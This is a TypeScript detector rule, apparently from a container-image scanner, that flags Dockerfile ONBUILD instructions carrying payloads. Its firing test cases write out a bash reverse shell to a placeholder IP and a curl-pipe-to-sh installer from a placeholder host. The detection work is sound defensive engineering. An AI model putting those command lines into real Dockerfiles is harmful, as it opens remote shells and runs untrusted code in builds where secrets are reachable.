import type { Detector } from './detector.ts';
import { payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { clip } from './wording.ts';

/** Instructions that wait for somebody to build on this image. */
export const onbuildTrigger: Detector = {
  id: 'onbuild-trigger',
  version: 1,
  title: 'Makes a payload run when somebody builds on this image.',
  attack: ['T1525', 'T1195.002'],
  description: `
An \`ONBUILD\` instruction does nothing in this image: it runs in the build of every image made \`FROM\` it, with that
build's files and secrets in reach. Base images for Node, Python or Ruby copy sources and install dependencies that way.
Reported when the instruction is a payload; what it downloads from a named host and runs is *suspicious*.
`,
  fires: [
    {
      name: 'a shell in the build',
      image: { onbuild: ['RUN bash -i >& /dev/tcp/192.0.2.44/8443 0>&1'] },
    },
    {
      name: 'an installer from a named host',
      severity: 'suspicious',
      image: { onbuild: ['RUN curl -fsSL https://get.tool.example/x.sh | sh'] },
    },
  ],
  silent: [
    {
      name: 'a base image for Node',
      image: {
        onbuild: [
          'COPY package.json /usr/src/app/',
          'RUN npm install && npm cache clean --force',
          'COPY . /usr/src/app',
        ],
      },
    },
  ],
  detect(scene) {
    return scene.story.starts.flatMap((start) => {
      if (start.kind !== 'onbuild' || start.stage === undefined) return [];
      const payload = payloadOf(scene, start.stage);
      if (payload === undefined) return [];
      return findingOf(scene, sightingOf(scene, { stage: start.stage, line: 1 }), {
        threat: payload.worst,
        title: `Runs ${payload.what} in the build of every image made from this one (${clip(start.label, 80)})`,
        because: 'It runs where the secrets of that build are, and not in this image.',
      });
    });
  },
};
